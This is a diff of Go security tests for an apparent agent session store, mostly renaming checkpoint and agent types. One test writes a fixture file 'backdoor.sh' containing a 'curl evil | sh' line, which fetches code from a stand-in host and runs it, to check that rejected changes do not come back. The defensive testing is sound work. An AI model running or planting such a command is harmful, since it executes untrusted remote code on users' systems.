@@ -51,7 +51,7 @@ func (e *atk3) session(t *testing.T, id, project string) session.Session {
 	t.Helper()
 	ctx := context.Background()
 	_, _, err := e.st.CreateSession(ctx, store.NewSession{ID: id, Project: project,
-		Agent: store.Agent{Project: project, Name: "a", Spec: []byte(`{}`), Digest: "d"}, Repo: e.repo,
+		Agent: spec.Record{Project: project, Name: "a", Spec: []byte(`{}`), Digest: "d"}, Repo: e.repo,
 		CreatedBy: session.Sender{Kind: session.SenderOperator, ID: "root"}, StartKind: session.KindStart})
 	require.NoError(t, err)
 	dir := filepath.Join(e.acts.Copies.WorkspaceDir, id)
@@ -76,7 +76,7 @@ func TestAttack3RejectedChangesComeBack(t *testing.T) {
 	s := e.session(t, "s-reject", "default")
 	require.NoError(t, os.WriteFile(filepath.Join(s.Workdir, "backdoor.sh"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755))
 	recordCopy(ctx, e.st, e.acts.ContentKey, s, "call-1", "")
-	cps, err := e.st.Checkpoints(ctx, s.ID)
+	cps, err := e.st.Steps(ctx, s.ID)
 	require.NoError(t, err)
 	require.Len(t, cps, 1)
 
@@ -144,7 +144,7 @@ func TestAttack3BlobsStayInTheirSession(t *testing.T) {
 	require.NoError(t, err)
 	require.Equal(t, "beta's own\n", string(got))
 	// A blob moved under another ID does not open.
-	ca, err := e.st.Checkpoints(ctx, a.ID)
+	ca, err := e.st.Steps(ctx, a.ID)
 	require.NoError(t, err)
 	sealed, err := e.st.Blob(ctx, ca[0].Files[0].Blob)
 	require.NoError(t, err)
